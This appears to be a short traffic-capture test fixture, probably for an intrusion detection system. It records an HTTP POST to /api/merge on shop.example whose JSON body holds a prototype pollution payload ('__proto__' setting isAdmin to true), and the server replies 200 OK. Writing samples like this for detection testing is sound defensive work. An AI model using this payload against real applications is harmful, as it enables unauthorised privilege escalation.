# prototype pollution in a JSON body.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /api/merge HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/json\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 36\r\n
\r\n
{"a":1,"__proto__":{"isAdmin":true}}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
